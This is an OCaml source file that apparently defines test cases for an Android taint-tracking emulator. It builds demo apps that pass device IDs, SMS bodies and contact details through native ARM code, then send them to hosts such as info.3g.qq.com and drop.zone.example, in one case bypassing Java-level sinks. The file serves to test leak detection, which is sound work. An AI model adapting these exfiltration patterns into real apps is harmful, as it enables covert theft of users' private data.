module J = Ndroid_dalvik.Jbuilder
module B = Ndroid_dalvik.Bytecode
module Dvalue = Ndroid_dalvik.Dvalue
module Asm = Ndroid_arm.Asm
module Insn = Ndroid_arm.Insn
module Cpu = Ndroid_arm.Cpu
module Layout = Ndroid_emulator.Layout

let telephony = "Landroid/telephony/TelephonyManager;"
let contacts = "Landroid/provider/ContactsProvider;"
let sms = "Landroid/provider/SmsProvider;"
let socket = "Ljava/net/Socket;"
let string_cls = "Ljava/lang/String;"

let mref cls name = { B.m_class = cls; B.m_name = name }

(* ---------------------------------------------------------------- case 1 *)

(* Thumb-mode native library: scramble(jstr) returns a new Java string made
   from the argument's chars. *)
let case1_lib extern =
  let open Asm in
  let items =
    [ Label "scramble";
      I (Insn.push [ Insn.r4; Insn.lr ]);
      (* save jstr (arg 0 = r2 for a static native method) *)
      I (Insn.Dp { cond = Insn.AL; op = Insn.MOV; s = false; rd = 4; rn = 0;
                   op2 = Insn.Reg 2 });
      (* chars = GetStringUTFChars(env, jstr, NULL) *)
      I (Insn.Dp { cond = Insn.AL; op = Insn.MOV; s = false; rd = 1; rn = 0;
                   op2 = Insn.Reg 4 });
      I (Insn.movs 2 (Insn.Imm 0));
      Call "GetStringUTFChars";
      (* newstr = NewStringUTF(env, chars) *)
      I (Insn.Dp { cond = Insn.AL; op = Insn.MOV; s = false; rd = 1; rn = 0;
                   op2 = Insn.Reg 0 });
      Call "NewStringUTF";
      I (Insn.pop [ Insn.r4; Insn.pc ]) ]
  in
  assemble ~mode:Cpu.Thumb ~extern ~base:Layout.app_lib_base items

let case1_cls = "Lcom/ndroid/demos/Case1;"

let case1 : Harness.app =
  { Harness.app_name = "case1";
    app_case = "case 1";
    description =
      "Java source -> native intermediate -> Java sink via the return value";
    classes =
      [ J.class_ ~name:case1_cls ~super:"Ljava/lang/Object;"
          [ J.native_method ~cls:case1_cls ~name:"scramble" ~shorty:"LL" "scramble";
            J.method_ ~cls:case1_cls ~name:"main" ~shorty:"V"
              [ J.I (B.Const_string (3, "case1"));
                J.I (B.Invoke (B.Static,
                               { B.m_class = "Ljava/lang/System;";
                                 m_name = "loadLibrary" }, [ 3 ]));
                J.I (B.Invoke (B.Static, mref telephony "getDeviceId", []));
                J.I (B.Move_result 0);
                J.I (B.Invoke (B.Static, mref case1_cls "scramble", [ 0 ]));
                J.I (B.Move_result 1);
                J.I (B.Const_string (2, "collect.example.com"));
                J.I (B.Invoke (B.Static, mref socket "send", [ 2; 1 ]));
                J.I B.Return_void ] ] ];
    build_libs = (fun extern -> [ ("case1", case1_lib extern) ]);
    entry = (case1_cls, "main");
    expected_sink = "Socket.send" }

(* --------------------------------------------------------------- case 1' *)

let mov rd rm = Asm.I (Insn.mov rd (Insn.Reg rm))

let case1'_lib extern =
  let open Asm in
  let items =
    [ Label "store";
      I (Insn.push [ Insn.r4; Insn.lr ]);
      mov 1 2;
      I (Insn.mov 2 (Insn.Imm 0));
      Call "GetStringUTFChars";
      mov 1 0;
      La (0, "buffer");
      Call "strcpy";
      I (Insn.mov 0 (Insn.Imm 0));
      I (Insn.pop [ Insn.r4; Insn.pc ]);
      Label "fetch";
      I (Insn.push [ Insn.r4; Insn.lr ]);
      La (1, "buffer");
      Call "NewStringUTF";
      I (Insn.pop [ Insn.r4; Insn.pc ]);
      Align4;
      Label "buffer" ]
    @ List.init 32 (fun _ -> Word 0)
  in
  assemble ~extern ~base:Layout.app_lib_base items

let case1'_cls = "Lcom/ndroid/demos/Case1p;"

let case1' : Harness.app =
  { Harness.app_name = "case1'";
    app_case = "case 1'";
    description =
      "Java source -> native buffer; clean second call rebuilds the string \
       (NewStringUTF) and Java sends it";
    classes =
      [ J.class_ ~name:case1'_cls ~super:"Ljava/lang/Object;"
          [ J.native_method ~cls:case1'_cls ~name:"store" ~shorty:"IL" "store";
            J.native_method ~cls:case1'_cls ~name:"fetch" ~shorty:"L" "fetch";
            J.method_ ~cls:case1'_cls ~name:"main" ~shorty:"V"
              [ J.I (B.Const (5, Dvalue.Int 0l));
                J.I (B.Invoke (B.Static, mref sms "getSmsBody", [ 5 ]));
                J.I (B.Move_result 0);
                J.I (B.Invoke (B.Static, mref contacts "getContactName", [ 5 ]));
                J.I (B.Move_result 1);
                (* concat: taint becomes sms|contacts = 0x202 *)
                J.I (B.Invoke (B.Virtual, mref string_cls "concat", [ 0; 1 ]));
                J.I (B.Move_result 2);
                J.I (B.Invoke (B.Static, mref case1'_cls "store", [ 2 ]));
                J.I (B.Invoke (B.Static, mref case1'_cls "fetch", []));
                J.I (B.Move_result 3);
                J.I (B.Const_string (4, "sync.3g.qq.com"));
                J.I (B.Invoke (B.Static, mref socket "send", [ 4; 3 ]));
                J.I B.Return_void ] ] ];
    build_libs = (fun extern -> [ ("case1p", case1'_lib extern) ]);
    entry = (case1'_cls, "main");
    expected_sink = "Socket.send" }

(* ---------------------------------------------------------------- case 2 *)

let case2_lib extern =
  let open Asm in
  let items =
    [ Label "exfil";
      I (Insn.push [ Insn.r4; Insn.r5; Insn.r6; Insn.lr ]);
      mov 1 2;
      I (Insn.mov 2 (Insn.Imm 0));
      Call "GetStringUTFChars";
      mov 4 0;
      (* len = strlen(chars) *)
      Call "strlen";
      mov 5 0;
      (* fd = socket(...) *)
      Call "socket";
      mov 6 0;
      (* connect(fd, "info.3g.qq.com") *)
      La (1, "dest");
      Call "connect";
      (* send(fd, chars, len) *)
      mov 0 6;
      mov 1 4;
      mov 2 5;
      Call "send";
      I (Insn.mov 0 (Insn.Imm 0));
      I (Insn.pop [ Insn.r4; Insn.r5; Insn.r6; Insn.pc ]);
      Align4;
      Label "dest";
      Asciz "info.3g.qq.com" ]
  in
  assemble ~extern ~base:Layout.app_lib_base items

let case2_cls = "Lcom/ndroid/demos/Case2;"

let case2 : Harness.app =
  { Harness.app_name = "case2";
    app_case = "case 2";
    description = "Java source -> native sink (send from native code)";
    classes =
      [ J.class_ ~name:case2_cls ~super:"Ljava/lang/Object;"
          [ J.native_method ~cls:case2_cls ~name:"exfil" ~shorty:"IL" "exfil";
            J.method_ ~cls:case2_cls ~name:"main" ~shorty:"V"
              [ J.I (B.Const (5, Dvalue.Int 0l));
                J.I (B.Invoke (B.Static, mref contacts "getContactEmail", [ 5 ]));
                J.I (B.Move_result 0);
                J.I (B.Invoke (B.Static, mref case2_cls "exfil", [ 0 ]));
                J.I B.Return_void ] ] ];
    build_libs = (fun extern -> [ ("case2", case2_lib extern) ]);
    entry = (case2_cls, "main");
    expected_sink = "send" }

(* ---------------------------------------------------------------- case 3 *)

(* Shared prologue: pull the device id out of Java through JNI and leave the
   C string pointer in r0.  Clobbers r4-r6; expects env saved in r9. *)
let harvest_body =
  let open Asm in
  [ (* cls = FindClass("Landroid/telephony/TelephonyManager;") *)
    mov 0 9;
    La (1, "cls_name");
    Call "FindClass";
    mov 4 0;
    (* mid = GetStaticMethodID(cls, "getDeviceId", sig) *)
    mov 0 9;
    mov 1 4;
    La (2, "m_name");
    La (3, "m_sig");
    Call "GetStaticMethodID";
    mov 5 0;
    (* jstr = CallStaticObjectMethod(env, cls, mid) *)
    mov 0 9;
    mov 1 4;
    mov 2 5;
    Call "CallStaticObjectMethod";
    mov 6 0;
    (* chars = GetStringUTFChars(env, jstr, NULL) *)
    mov 0 9;
    mov 1 6;
    I (Insn.mov 2 (Insn.Imm 0));
    Call "GetStringUTFChars" ]

let harvest_data =
  let open Asm in
  [ Align4;
    Label "cls_name";
    Asciz "Landroid/telephony/TelephonyManager;";
    Label "m_name";
    Asciz "getDeviceId";
    Label "m_sig";
    Asciz "()Ljava/lang/String;" ]

let case3_lib extern =
  let open Asm in
  let items =
    [ Label "harvest";
      I (Insn.push [ Insn.r4; Insn.r5; Insn.r6; Insn.lr ]);
      mov 9 0 ]
    @ harvest_body
    @ [ (* newstr = NewStringUTF(env, chars) *)
        mov 1 0;
        mov 0 9;
        Call "NewStringUTF";
        I (Insn.pop [ Insn.r4; Insn.r5; Insn.r6; Insn.pc ]) ]
    @ harvest_data
  in
  assemble ~extern ~base:Layout.app_lib_base items

let case3_cls = "Lcom/ndroid/demos/Case3;"

let case3 : Harness.app =
  { Harness.app_name = "case3";
    app_case = "case 3";
    description =
      "native pulls the data from Java through JNI, rebuilds it, Java sends \
       the new object";
    classes =
      [ J.class_ ~name:case3_cls ~super:"Ljava/lang/Object;"
          [ J.native_method ~cls:case3_cls ~name:"harvest" ~shorty:"L" "harvest";
            J.method_ ~cls:case3_cls ~name:"main" ~shorty:"V"
              [ J.I (B.Invoke (B.Static, mref case3_cls "harvest", []));
                J.I (B.Move_result 0);
                J.I (B.Const_string (1, "stats.tracker.example"));
                J.I (B.Invoke (B.Static, mref socket "send", [ 1; 0 ]));
                J.I B.Return_void ] ] ];
    build_libs = (fun extern -> [ ("case3", case3_lib extern) ]);
    entry = (case3_cls, "main");
    expected_sink = "Socket.send" }

(* ---------------------------------------------------------------- case 4 *)

let case4_lib extern =
  let open Asm in
  let items =
    [ Label "harvest_send";
      I (Insn.push [ Insn.r4; Insn.r5; Insn.r6; Insn.r7; Insn.lr ]);
      mov 9 0 ]
    @ harvest_body
    @ [ mov 4 0;
        (* len = strlen(chars) *)
        Call "strlen";
        mov 5 0;
        Call "socket";
        mov 6 0;
        (* sendto(fd, chars, len, 0, dest, len(dest)) *)
        La (7, "dest4");
        I (Insn.push [ Insn.r7 ]);
        mov 0 6;
        mov 1 4;
        mov 2 5;
        I (Insn.mov 3 (Insn.Imm 0));
        Call "sendto";
        I (Insn.add 13 13 (Insn.Imm 4));
        I (Insn.mov 0 (Insn.Imm 0));
        I (Insn.pop [ Insn.r4; Insn.r5; Insn.r6; Insn.r7; Insn.pc ]) ]
    @ harvest_data
    @ [ Label "dest4"; Asciz "drop.zone.example" ]
  in
  assemble ~extern ~base:Layout.app_lib_base items

let case4_cls = "Lcom/ndroid/demos/Case4;"

let case4 : Harness.app =
  { Harness.app_name = "case4";
    app_case = "case 4";
    description =
      "native pulls the data from Java through JNI and leaks it itself \
       (sendto), bypassing every Java-context sink";
    classes =
      [ J.class_ ~name:case4_cls ~super:"Ljava/lang/Object;"
          [ J.native_method ~cls:case4_cls ~name:"harvest_send" ~shorty:"V"
              "harvest_send";
            J.method_ ~cls:case4_cls ~name:"main" ~shorty:"V"
              [ J.I (B.Invoke (B.Static, mref case4_cls "harvest_send", []));
                J.I B.Return_void ] ] ];
    build_libs = (fun extern -> [ ("case4", case4_lib extern) ]);
    entry = (case4_cls, "main");
    expected_sink = "sendto" }

let all = [ case1; case1'; case2; case3; case4 ]
